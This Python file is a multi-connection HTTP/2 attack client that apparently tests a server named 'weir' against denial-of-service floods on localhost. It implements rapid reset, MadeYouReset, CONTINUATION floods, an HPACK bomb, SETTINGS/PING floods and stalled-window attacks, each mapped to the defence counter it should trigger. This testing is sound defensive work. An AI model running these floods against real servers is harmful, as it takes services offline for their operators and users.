# SPDX-License-Identifier: BSD-2-Clause
"""HTTP/2 clients that mean no good, as a program of its own: http2_attacker.py KIND PORT SECONDS CONNECTIONS

Each connection sends what its kind sends, as fast as it is taken, and reads what comes; one that ends is replaced. What
it did is printed as JSON when the time is over."""

import collections
import json
import pathlib
import selectors
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))

import hpack  # noqa: E402

from lib.http2 import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, ENHANCE_YOUR_CALM, GOAWAY,  # noqa: E402
                       HEADERS, INITIAL_WINDOW, PING, PREFACE, PRIORITY, PRIORITY_UPDATE, RST_STREAM, SETTINGS,
                       WINDOW_UPDATE, Http2, pack)

MANY = 20000  # frames, or pairs of them, of one connection
STREAMS = 128
OWN, PROXIED, LARGE, UPLOAD = "/own", "/index.html", "/large.bin", "/sink"


def request(encoder, stream, path, *fields, end=True, method="GET"):
    block = encoder.encode(Http2.head(*fields, path=path, method=method))
    return pack(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def streams(count=MANY):
    return range(1, 2 * count, 2)


def begin(**settings):
    return PREFACE + Http2.settings_frame({INITIAL_WINDOW: settings["window"]} if settings else {})


# -- what is sent: pieces of bytes -------------------------------------------------------------------------------------


def rapid_reset(encoder):
    for stream in streams():
        yield request(encoder, stream, PROXIED) + pack(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def made_to_reset(encoder):
    """A window that overflows while the request waits: it is weir that has to reset the stream."""
    for stream in streams():
        yield (request(encoder, stream, UPLOAD, ("content-length", "9"), end=False, method="POST")
               + pack(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7fffffff)))


def malformed(encoder):
    for stream in streams():
        yield request(encoder, stream, OWN, ("connection", "close"))


def longer_than_said(encoder):
    for stream in streams():
        yield (request(encoder, stream, UPLOAD, ("content-length", "1"), end=False, method="POST")
               + pack(DATA, 0, stream, b"xx"))


def continuation(_):
    yield pack(HEADERS, END_STREAM, 1, b"")
    for _ in range(MANY):
        yield pack(CONTINUATION, 0, 1, b"")


def large_block(_):
    literal = b"\x00\x01a\x7f\x81\x7e" + b"v" * 16000
    yield pack(HEADERS, END_STREAM, 1, literal)
    for _ in range(200):
        yield pack(CONTINUATION, 0, 1, literal)


def hpack_bomb(encoder):
    """A field of 4 KB in the table, then heads that name it 4000 times, in a byte each."""
    value = b"v" * 4000
    size = bytes([127, (4000 - 127) & 127 | 128, (4000 - 127) >> 7])
    yield pack(HEADERS, END_STREAM | END_HEADERS, 1, encoder.encode(Http2.head()) + b"\x40\x01a" + size + value)
    for stream in streams(500):
        yield pack(HEADERS, END_STREAM | END_HEADERS, stream + 2, b"\xbe" * 4000)


def table_sizes(encoder):
    """Each head makes HPACK's table empty and large again."""
    for stream in streams():
        block = b"\x20\x3f\xe1\x1f" + encoder.encode(Http2.head(path=OWN))
        yield pack(HEADERS, END_STREAM | END_HEADERS, stream, block)


def pings(_):
    for _ in range(MANY):
        yield pack(PING, 0, 0, b"12345678")


def settings(_):
    for _ in range(MANY):
        yield pack(SETTINGS, 0, 0, b"")


def windows_up_and_down(encoder):
    """Each SETTINGS moves the windows of all streams."""
    for stream in streams(100):
        yield request(encoder, stream, LARGE)
    for number in range(MANY):
        yield pack(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, number % 2))


def empty_data(encoder):
    yield request(encoder, 1, UPLOAD, end=False, method="POST")
    for _ in range(MANY):
        yield pack(DATA, 0, 1, b"")


def loops(_):
    """Streams that depend on each other in circles, and on themselves."""
    for stream in streams():
        yield pack(PRIORITY, 0, stream, struct.pack(">IB", 1 << 31 | (stream - 2 if stream > 3 else 9), 255))
        yield pack(PRIORITY, 0, stream, struct.pack(">IB", stream, 0))


def priorities(encoder):
    """RFC 9218, for streams that are there and for ones that never come."""
    yield request(encoder, 1, LARGE)
    for number in range(MANY):
        yield pack(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 1 + 2 * (number % 5000)) + b"u=%d, i" % (number % 8))


def window_updates(encoder):
    yield request(encoder, 1, UPLOAD, end=False, method="POST")
    for _ in range(MANY):
        yield pack(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))


def unknown(_):
    for _ in range(MANY):
        yield pack(0x42, 0, 0, b"?" * 64)


def stalled(encoder):
    """As many large answers as there may be, with no window to be sent in."""
    for stream in streams(STREAMS):
        yield request(encoder, stream, LARGE)


def dripping(encoder):
    """The same, and a byte of window now and then."""
    yield from stalled(encoder)
    while True:
        for stream in streams(STREAMS):
            yield None
            yield pack(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1))


def uploads(encoder):
    """As many bodies as there may be, none of which ends."""
    for stream in streams(STREAMS):
        yield request(encoder, stream, UPLOAD, ("content-length", "1000000000"), end=False, method="POST")
    for stream in streams(STREAMS):
        yield pack(DATA, 0, stream, b"x" * 8192)


def too_many_streams(encoder):
    for stream in streams():
        yield request(encoder, stream, LARGE, end=False, method="POST")


# kind: (what is sent, the window that the client gives, what weir counts it as: that of which there is too much first)
KINDS = {
    "rapid reset": (rapid_reset, None, "rapid_reset"),
    "MadeYouReset (window)": (made_to_reset, None, "provoked_reset|window|refused_streams"),
    "MadeYouReset (malformed head)": (malformed, None, "provoked_reset"),
    "MadeYouReset (content-length)": (longer_than_said, None, "provoked_reset|refused_streams"),
    "CONTINUATION, empty": (continuation, None, "continuation"),
    "CONTINUATION, 16 KB each": (large_block, None, "continuation"),
    "HPACK bomb": (hpack_bomb, None, "header_list"),
    "HPACK table sizes": (table_sizes, None, None),
    "PING": (pings, None, "ping"),
    "SETTINGS": (settings, None, "settings"),
    "SETTINGS that move 100 windows": (windows_up_and_down, 0, "settings"),
    "DATA without content": (empty_data, None, "empty_data"),
    "PRIORITY in loops": (loops, None, "priority"),
    "PRIORITY_UPDATE": (priorities, 0, "priority"),
    "WINDOW_UPDATE": (window_updates, None, "window"),
    "frames of unknown type": (unknown, None, "unknown"),
    "128 answers without a window": (stalled, 0, None),
    "128 answers, a byte at a time": (dripping, 0, None),
    "128 uploads that never end": (uploads, None, None),
    "more streams than announced": (too_many_streams, 0, "refused_streams"),
}


class Attacker:
    """One connection after the other."""

    def __init__(self, kind, port, selector, told):
        self.make, self.window, _ = KINDS[kind]
        self.port, self.selector, self.told = port, selector, told
        self.sock = None

    def connect(self):
        self.sock = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        self.sock.setblocking(False)
        self.pieces = self.make(hpack.Encoder())
        self.out = begin(window=self.window) if self.window is not None else begin()
        self.rest = b""
        self.drips_at, self.is_through = 0, False
        self.told["connections"] += 1
        self.selector.register(self.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, self)

    def end(self):
        self.selector.unregister(self.sock)
        self.sock.close()
        self.sock = None

    def fill(self):
        while len(self.out) < 65536 and not self.is_through:
            piece = next(self.pieces, b"")
            if piece is None:  # not so fast
                self.drips_at = time.monotonic() + 0.05
                break
            self.is_through = piece == b""
            self.told["frames"] += not self.is_through
            self.out += piece

    def write(self):
        if time.monotonic() < self.drips_at:
            return
        self.fill()
        if self.out:
            sent = self.sock.send(self.out)
            self.told["bytes"] += sent
            self.out = self.out[sent:]
        elif self.is_through:  # what is left to do is to stay
            self.selector.modify(self.sock, selectors.EVENT_READ, self)

    def read(self):
        data = self.sock.recv(262144)
        if not data:
            raise ConnectionResetError
        self.told["taken"] += len(data)
        self.rest = (self.rest + data)[-64:]
        if struct.pack(">BBI", GOAWAY, 0, 0) in self.rest:  # the last frame of all
            self.told["goaways"] += struct.pack(">I", ENHANCE_YOUR_CALM) in self.rest
            raise ConnectionResetError

    def turn(self, events):
        try:
            if events & selectors.EVENT_READ:
                self.read()
            if events & selectors.EVENT_WRITE:
                self.write()
        except BlockingIOError:
            pass
        except OSError:
            self.end()


def main(kind, port, seconds, connections):
    selector, told = selectors.DefaultSelector(), collections.Counter()
    attackers = [Attacker(kind, int(port), selector, told) for _ in range(int(connections))]
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for attacker in attackers:
            if not attacker.sock:
                attacker.connect()
        for key, events in selector.select(0.01):
            key.data.turn(events)
    print(json.dumps(told))


if __name__ == "__main__":
    main(*sys.argv[1:])
